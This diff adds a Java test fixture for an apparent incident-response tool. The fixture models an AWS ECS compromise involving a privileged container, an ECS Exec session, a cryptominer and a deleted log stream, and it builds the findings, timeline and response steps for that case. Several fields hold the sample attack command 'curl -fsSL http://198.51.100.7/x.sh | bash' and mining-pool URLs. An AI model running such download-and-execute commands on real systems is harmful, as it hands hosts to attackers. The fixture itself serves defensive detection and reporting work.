@@ -1,0 +1,517 @@
+package org.ephemera.report;
+
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import java.util.OptionalDouble;
+import java.util.TreeMap;
+import org.ephemera.analyze.Analysis;
+import org.ephemera.analyze.Subject;
+import org.ephemera.analyze.model.Change;
+import org.ephemera.analyze.model.Container;
+import org.ephemera.analyze.model.Coverage;
+import org.ephemera.analyze.model.Evidence;
+import org.ephemera.analyze.model.Execution;
+import org.ephemera.analyze.model.Fact;
+import org.ephemera.analyze.model.Finding;
+import org.ephemera.analyze.model.Gap;
+import org.ephemera.analyze.model.Host;
+import org.ephemera.analyze.model.Indicator;
+import org.ephemera.analyze.model.MinerScore;
+import org.ephemera.analyze.model.NextStep;
+import org.ephemera.analyze.model.Place;
+import org.ephemera.analyze.model.Platform;
+import org.ephemera.analyze.model.Privileges;
+import org.ephemera.analyze.model.Rule;
+import org.ephemera.analyze.model.Series;
+import org.ephemera.analyze.model.Severity;
+import org.ephemera.analyze.model.TimelineEntry;
+import org.ephemera.analyze.model.Verdict;
+import org.ephemera.analyze.model.Workload;
+import org.ephemera.bag.ItemOutcome;
+import org.ephemera.bag.Json;
+import org.ephemera.bag.OpenRecord;
+import org.ephemera.bag.PlannedItem;
+import org.ephemera.bag.Policy;
+import org.ephemera.bag.Requester;
+import org.ephemera.bag.Trigger;
+import org.ephemera.evidence.CaseId;
+import org.ephemera.evidence.Digest;
+import org.ephemera.evidence.Extent;
+import org.ephemera.evidence.Outcome;
+import org.ephemera.evidence.PackageId;
+import org.ephemera.evidence.Target;
+import org.ephemera.evidence.TimeWindow;
+import org.ephemera.evidence.Volatility;
+import org.ephemera.seal.SealStatement;
+import org.ephemera.store.Retention;
+
+/** An incident on ECS with EC2, as an analysis has it: one miner, one escape, somebody at a keyboard. */
+final class SampleAnalysis {
+    static final String TASK = "arn:aws:ecs:eu-central-1:111122223333:task/shop/9f3c1a7be4d24c0f8a6b5d2e17c0934a";
+    static final Instant FROM = Instant.parse("2026-11-26T05:36:55.968Z");
+    static final Instant TO = Instant.parse("2026-11-26T12:36:25.503Z");
+
+    private static final PackageId ID = new PackageId("01a217db-6b1f-787a-9d73-b639e112a804");
+    private static final Digest SHA = new Digest("e7399dc87d8d38a4bb087561dda61ba309465329b7898582333bee0b388c40f8");
+    private static final Instant BEGAN = Instant.parse("2026-11-26T11:55:00Z");
+
+    /** The strings that stand wherever a target may say something. */
+    private final List<String> words;
+
+    private int said;
+
+    private SampleAnalysis(List<String> words) {
+        this.words = words;
+    }
+
+    static Analysis plain() {
+        return new SampleAnalysis(List.of()).analysis(0);
+    }
+
+    /** @param more findings, each of a line of a log */
+    static Analysis large(int more) {
+        return new SampleAnalysis(List.of()).analysis(more);
+    }
+
+    /** The same where a target says each of these words somewhere. */
+    static Analysis saying(List<String> words) {
+        return new SampleAnalysis(words).analysis(0);
+    }
+
+    /** What a target says here: its own words, or the ones that are tried. */
+    private String said(String usual) {
+        return words.isEmpty() ? usual : words.get(said++ % words.size());
+    }
+
+    private Analysis analysis(int more) {
+        List<Finding> findings = new ArrayList<>(findings());
+        for (int i = 0; i < more; i++) {
+            findings.add(Finding.of(
+                    LOG,
+                    "checkout",
+                    "stratum+tcp://pool-" + i + ".example:3333 in a line of the log",
+                    line("data/raw/aws.logs.stream.1/4bce8da1/0001.body.json", i + 1)));
+        }
+        return new Analysis(
+                new Subject(request(), closing(), seal(), SHA),
+                "2026.11+1a2b3c4d",
+                List.of(workload()),
+                verdict(),
+                findings,
+                miners(),
+                changes(),
+                List.of(),
+                series(),
+                timeline(),
+                128_412,
+                indicators(),
+                coverage(),
+                List.of(
+                        new Gap("aws.ecs.exec-session.2", "the session's end is missing: " + said("no EXIT line")),
+                        new Gap("LOG rules on audit", "its output went to a log router, and no copy was collected")));
+    }
+
+    private static final Rule ESCAPE = rule(
+            "ESC-001",
+            Severity.CRITICAL,
+            "Privileged container",
+            NextStep.HOST,
+            "Storage and network agents run so; look at the image and the owner.",
+            "T1611",
+            "T1610");
+    private static final Rule COMMAND = rule(
+            "CMD-001",
+            Severity.HIGH,
+            "Download that is run at once",
+            NextStep.CONTAINER,
+            "Installers of a base image do this while it is built, seldom when it starts.",
+            "T1059.004",
+            "T1105");
+    private static final Rule EXEC =
+            rule("EXE-004", Severity.HIGH, "Command run in a task by ECS Exec", NextStep.CREDENTIALS, "", "T1609");
+    private static final Rule LOG =
+            rule("LOG-001", Severity.HIGH, "Words of a coin miner in a log", NextStep.CONTAINER, "", "T1496.001");
+    private static final Rule IMAGE = rule(
+            "IMG-001", Severity.MEDIUM, "Image without a digest", NextStep.CONFIG, "Common; matters with a moved tag.");
+    private static final Rule ROOT =
+            rule("ESC-013", Severity.LOW, "Runs as root", NextStep.CONFIG, "Most images do.", "T1611");
+
+    private static Rule rule(String id, Severity severity, String title, NextStep next, String note, String... attack) {
+        return new Rule(id, severity, title, List.of(attack), Optional.of(next), note);
+    }
+
+    private static Evidence pointer(String item, String path) {
+        return new Evidence("data/raw/" + item + "/4bce8da1/0001.body.json", new Place.Pointer(path), SHA);
+    }
+
+    private static Evidence line(String file, long number) {
+        return new Evidence(file, new Place.Line(number), SHA);
+    }
+
+    private List<Finding> findings() {
+        Evidence definition = pointer("aws.ecs.task-definition.1", "/taskDefinition/containerDefinitions/0/privileged");
+        return List.of(
+                Finding.of(ESCAPE, said("checkout"), "privileged is " + said("true"), definition)
+                        .ontoHost(),
+                Finding.of(
+                                COMMAND,
+                                "checkout",
+                                said("sh -c curl -fsSL http://198.51.100.7/x.sh | bash"),
+                                pointer("aws.ecs.task", "/tasks/0/overrides/containerOverrides/0/command"))
+                        .with(pointer("aws.cloudtrail.events.2", "/Events/3")),
+                Finding.of(
+                                EXEC,
+                                said("arn:aws:iam::111122223333:user/ops-hotfix"),
+                                "ExecuteCommand /bin/sh from 203.0.113.9",
+                                pointer("aws.cloudtrail.events.1", "/Events/0"))
+                        .at(Instant.parse("2026-11-26T11:53:13Z")),
+                Finding.of(IMAGE, "metrics-agent", said("shop/metrics-agent:1.9.0"), definition),
+                Finding.of(ROOT, "checkout", "user is not set", definition),
+                Finding.of(ESCAPE, "aws-guardduty-agent", "privileged is true", definition)
+                        .suppressed("known agent: GuardDuty's own container"));
+    }
+
+    private Verdict verdict() {
+        return new Verdict(
+                Verdict.Answer.IMAGE_HOST,
+                Verdict.Confidence.LIKELY,
+                List.of(new Fact<>(
+                        "ESC-001: checkout runs privileged on an EC2 instance that you can image",
+                        pointer("aws.ecs.task-definition.1", "/taskDefinition/containerDefinitions/0/privileged"))),
+                List.of(
+                        new Verdict.Step(
+                                "Keep the machine",
+                                "A snapshot is worth nothing if the group replaces the instance first.",
+                                List.of("aws autoscaling set-instance-protection --instance-ids i-0a1b2c3d4e5f60718"
+                                        + " --auto-scaling-group-name ecs-shop --protected-from-scale-in")),
+                        new Verdict.Step(
+                                "Snapshot its disks",
+                                "Before anything is stopped.",
+                                List.of(
+                                        "aws ec2 create-snapshot --volume-id vol-0123456789abcdef0 --description "
+                                                + ShellWord.of(said("case IR-2026-118")),
+                                        "aws ec2 create-snapshot --volume-id vol-0fedcba9876543210"))));
+    }
+
+    private Workload workload() {
+        Evidence at = pointer("aws.ecs.task", "/tasks/0");
+        return new Workload(
+                Platform.ECS_EC2,
+                "111122223333/eu-central-1",
+                TASK,
+                Optional.of(new Fact<>("service:checkout", at.child("group"))),
+                List.of(new Host(
+                        new Fact<>("i-0a1b2c3d4e5f60718", at),
+                        List.of(new Fact<>("vol-0123456789abcdef0", at)),
+                        List.of(new Fact<>("docker 25.0.3", at)),
+                        List.of(new Fact<>(said("task payments/7d41"), at)))),
+                Optional.empty(),
+                Optional.empty(),
+                List.of(
+                        container(
+                                "checkout",
+                                said("111122223333.dkr.ecr.eu-central-1.amazonaws.com/shop/checkout:2026.11.3")),
+                        container(said("metrics-agent"), "shop/metrics-agent:1.9.0")),
+                List.of(new Fact<>("arn:aws:iam::111122223333:role/shop-checkout-task", at)),
+                Map.of(),
+                org.ephemera.analyze.model.Exposure.NONE,
+                List.of(),
+                at);
+    }
+
+    private Container container(String name, String image) {
+        Evidence at = pointer("aws.ecs.task-definition.1", "/taskDefinition/containerDefinitions/0");
+        return new Container(
+                name,
+                Container.Kind.MAIN,
+                Optional.of(new Fact<>(image, at.child("image"))),
+                Optional.of(new Fact<>("sha256:" + SHA.hex(), at)),
+                Privileges.NONE,
+                List.of(),
+                List.of(),
+                org.ephemera.analyze.model.Confinement.UNSET,
+                new Execution(
+                        List.of(new Execution.Command(
+                                "command",
+                                List.of("sh", "-c", said("curl -fsSL http://198.51.100.7/x.sh | bash; echo $HOME")),
+                                true,
+                                at.child("command"))),
+                        List.of(
+                                new Execution.Variable("POOL", "stratum+tcp://198.51.100.7:3333", true, at),
+                                new Execution.Variable(said("DB_HOST"), "a-value-that-must-not-show", false, at)),
+                        List.of(),
+                        Optional.of(new Fact<>(0.5, at)),
+                        Optional.of(new Fact<>(1L << 30, at))),
+                at);
+    }
+
+    private List<MinerScore> miners() {
+        Evidence at = pointer("aws.cloudwatch.container-insights.1", "/MetricDataResults/4");
+        return List.of(
+                new MinerScore(
+                        said("checkout"),
+                        9,
+                        MinerScore.Level.HIGH,
+                        Optional.of(BEGAN),
+                        List.of(
+                                new MinerScore.Points("FLAT_HIGH", 3, "99.4 % for 41 min, deviation 0.3", List.of(at)),
+                                new MinerScore.Points("MEMORY_STEP", 4, said("2,081 MiB more at 11:55"), List.of(at)),
+                                new MinerScore.Points("DAY_SHAPE", -1, "earlier days were busy too", List.of()))),
+                new MinerScore("metrics-agent", 0, MinerScore.Level.NONE, Optional.empty(), List.of()));
+    }
+
+    private List<Change> changes() {
+        Evidence at = pointer("aws.ecs.task", "/tasks/0/overrides/containerOverrides/0/command");
+        Evidence before = pointer("aws.ecs.task-definition.1", "/taskDefinition/containerDefinitions/0/command");
+        return List.of(
+                new Change(
+                        "checkout",
+                        "/containers/checkout/command",
+                        "the task definition",
+                        "java -jar /app/checkout.jar",
+                        said("sh -c curl -fsSL http://198.51.100.7/x.sh | bash"),
+                        before,
+                        at),
+                new Change(
+                        "checkout",
+                        "/containers/checkout/environment/POOL",
+                        "the task definition",
+                        "",
+                        "set",
+                        before,
+                        at));
+    }
+
+    private static Series curve(String metric, String statistic, String unit, double low, double high) {
+        List<Series.Point> points = new ArrayList<>();
+        Instant start = FROM.minus(Duration.ofDays(3)).truncatedTo(java.time.temporal.ChronoUnit.MINUTES);
+        for (int i = 0; start.plusSeconds(60L * i).isBefore(TO); i++) {
+            Instant time = start.plusSeconds(60L * i);
+            boolean blank = i % 1440 > 900 && i % 1440 < 930;
+            double value =
+                    time.isBefore(BEGAN) ? low * (1 + 0.3 * Math.sin(i / 200.0) + 0.1 * Math.sin(i * 1.7)) : high;
+            points.add(new Series.Point(time, blank ? OptionalDouble.empty() : OptionalDouble.of(value)));
+        }
+        return new Series(
+                "checkout",
+                metric,
+                statistic,
+                unit,
+                Duration.ofMinutes(1),
+                new TreeMap<>(Map.of("ContainerName", "checkout")),
+                points,
+                pointer("aws.cloudwatch.container-insights.1", "/MetricDataResults/4"));
+    }
+
+    private static List<Series> series() {
+        return List.of(
+                curve("CpuUtilized", "Average", "None", 90, 508),
+                curve("CpuUtilized", "Maximum", "None", 130, 512),
+                curve("MemoryUtilized", "Maximum", "Megabytes", 410, 990),
+                curve("NetworkRxBytes", "Average", "Bytes/Second", 52_000, 4_100),
+                curve("NetworkTxBytes", "Average", "Bytes/Second", 81_000, 2_300));
+    }
+
+    private List<TimelineEntry> timeline() {
+        List<TimelineEntry> entries = new ArrayList<>();
+        entries.add(entry("2026-11-26T06:37:43.094Z", "task", "the task started", "", 1));
+        entries.add(entry("2026-11-26T11:53:13Z", "call", said("ExecuteCommand /bin/sh"), "ops-hotfix", 1000));
+        entries.add(entry("2026-11-26T11:54:24.097Z", "alert", "Impact:Runtime/CryptoMinerExecuted", "", 1));
+        entries.add(entry("2026-11-26T11:55:00Z", "metric", "CPU of checkout steps to 100 %", "", 1000));
+        for (int i = 0; i < 40; i++) {
+            entries.add(entry(
+                    BEGAN.plusSeconds(30L * i).toString(),
+                    "log",
+                    said("[net] accepted (" + i + "/0) diff 100001"),
+                    "",
+                    1));
+        }
+        entries.add(entry("2026-11-26T11:59:37Z", "call", "DeleteLogStream shop/checkout", said("ops-hotfix"), 1000));
+        return entries;
+    }
+
+    private static TimelineEntry entry(String time, String kind, String message, String actor, long precision) {
+        return new TimelineEntry(
+                Instant.parse(time),
+                kind.equals("task") ? "startedAt" : "",
+                precision,
+                kind.equals("log") ? "application" : "control plane",
+                kind,
+                "checkout",
+                message,
+                actor,
+                List.of("T1496.001"),
+                kind.equals("log") ? List.of("LOG-001") : List.of(),
+                pointer("aws.cloudtrail.events.1", "/Events/0"));
+    }
+
+    private List<Indicator> indicators() {
+        Evidence at = line("data/raw/aws.logs.stream.1/4bce8da1/0001.body.json", 3312);
+        return List.of(
+                new Indicator(Indicator.Kind.IP, "198.51.100.7", List.of("CMD-001"), at),
+                new Indicator(Indicator.Kind.URL, said("http://198.51.100.7/x.sh"), List.of("CMD-001"), at),
+                new Indicator(Indicator.Kind.DOMAIN, "pool.example.net", List.of("LOG-001"), at),
+                new Indicator(Indicator.Kind.WALLET, "4".repeat(95), List.of("LOG-001"), at));
+    }
+
+    private List<Coverage> coverage() {
+        return List.of(
+                item(
+                        "aws.ecs.memory",
+                        Volatility.V0,
+                        new Outcome.Impossible("no API of ECS reads a task's memory"),
+                        0,
+                        null),
+                item("aws.ecs.writable-layer", Volatility.V1, new Outcome.Impossible("no API copies it"), 0, null),
+                item(
+                        "aws.ecs.task",
+                        Volatility.V2,
+                        new Outcome.Collected("the task is RUNNING and has 2 containers"),
+                        1,
+                        null),
+                item(
+                        "aws.ecs.exec-session.1",
+                        Volatility.V3,
+                        new Outcome.Partial("12 events; " + said("its end is missing")),
+                        12,
+                        null),
+                item(
+                        "aws.cloudwatch.container-insights.1",
+                        Volatility.V3,
+                        new Outcome.Collected("250472 data points"),
+                        250_472,
+                        null),
+                item(
+                        "aws.cloudtrail.events.1",
+                        Volatility.V4,
+                        new Outcome.Collected("3 events"),
+                        3,
+                        "2027-02-24T09:15:16Z"),
+                item(
+                        "aws.logs.stream.1",
+                        Volatility.V4,
+                        new Outcome.Collected("3680 events"),
+                        3680,
+                        "2026-12-03T05:36:55Z"),
+                item(
+                        "aws.logs.stream.2",
+                        Volatility.V4,
+                        new Outcome.Denied("logs:GetLogEvents", "not authorized"),
+                        0,
+                        "2026-11-28T05:36:55Z"),
+                item("aws.logs.late.1", Volatility.V4, new Outcome.Empty("there are no events"), 0, null),
+                item(
+                        "aws.ec2.flow-logs",
+                        Volatility.V5,
+                        new Outcome.NotEnabled("no flow log is set on the subnet"),
+                        0,
+                        null),
+                item("aws.ecs.action-logs", Volatility.V5, new Outcome.Expired("kept for 7 days"), 0, null),
+                item(
+                        "aws.ecr.image.1",
+                        Volatility.V5,
+                        new Outcome.Failed("ThrottlingException", said("rate exceeded")),
+                        0,
+                        null),
+                item(
+                        "aws.ecr.image.4",
+                        Volatility.V5,
+                        new Outcome.NotApplicable("the image is in the public gallery"),
+                        0,
+                        null),
+                item("aws.iam.role.1", Volatility.V5, new Outcome.Skipped("left out by policy"), 0, null));
+    }
+
+    private static Coverage item(
+            String item,
+            Volatility volatility,
+            Outcome outcome,
+            long records,
+            @org.jspecify.annotations.Nullable String lost) {
+        boolean answered = outcome instanceof Outcome.Collected || outcome instanceof Outcome.Empty;
+        Extent extent = records > 0 ? Extent.of(records).between(FROM, TO) : Extent.of(records);
+        PlannedItem planned = new PlannedItem(
+                item,
+                item.replaceAll("\\.\\d+$", ""),
+                item.startsWith("aws.logs.stream"),
+                false,
+                volatility,
+                new TimeWindow(FROM, TO),
+                new TreeMap<>());
+        return new Coverage(
+                new ItemOutcome(
+                        planned,
+                        outcome,
+                        lost == null ? extent : extent.lostAfter(Instant.parse(lost)),
+                        List.of("4bce8da1"),
+                        List.of(),
+                        answered ? 1 : 0,
+                        0,
+                        answered ? 1 : 0,
+                        answered ? 31_337 : 0),
+                answered ? List.of("ecs:DescribeTasks") : List.of(),
+                answered ? Optional.of(TO) : Optional.empty());
+    }
+
+    private OpenRecord request() {
+        return new OpenRecord(
+                ID,
+                Optional.of(new CaseId("IR-2026-118")),
+                TO,
+                new Trigger(
+                        Trigger.Kind.ALERT,
+                        "aws.guardduty",
+                        said("Impact:Runtime/CryptoMinerExecuted"),
+                        "a8c9e1f04b7d4e52b6a3910fd27c6e84",
+                        Optional.of(Instant.parse("2026-11-26T11:56:13.518Z")),
+                        Optional.of(org.ephemera.evidence.Severity.of(80, "8"))),
+                SHA,
+                new Requester("aws.guardduty", Requester.Method.EVENT_SOURCE, false),
+                said("CPU alarm of checkout"),
+                new Target("aws.ecs.task", TASK, Map.of("cluster", "shop")),
+                new TimeWindow(FROM, TO),
+                List.of(),
+                new Policy(Retention.NONE, Optional.empty()));
+    }
+
+    private static ObjectNode closing() {
+        ObjectNode closing = Json.object();
+        closing.putObject("collector")
+                .put("version", "0.1.0")
+                .put("gitCommit", "0ba27c8edf41026372522d035670f6cba15f5f78");
+        closing.putObject("runtime").put("principal", "arn:aws:sts::111122223333:assumed-role/ephemera-collector/demo");
+        closing.putObject("clock").put("offsetMs", -415).put("source", "median of 101 Date headers");
+        closing.putObject("retention")
+                .put("asked", "none")
+                .putObject("confirmed")
+                .put("mode", "none")
+                .putNull("until");
+        closing.putArray("footprint")
+                .addObject()
+                .put("item", "aws.ecr.image.1")
+                .put("what", "BatchGetImage may have set its lastRecordedPullTime");
+        return closing;
+    }
+
+    private static SealStatement seal() {
+        return new SealStatement(
+                ID,
+                Optional.of(new CaseId("IR-2026-118")),
+                TO,
+                TO.plusSeconds(1),
+                "partial",
+                163,
+                7_584_960,
+                Map.of("collected", 44),
+                SHA,
+                SHA,
+                SHA,
+                "SHA256:283b3f73994b64fac2f25a5e08a1013da8b65e617e37c0f4c5a083e8b28d7298",
+                "file:demo-key.pem");
+    }
+}
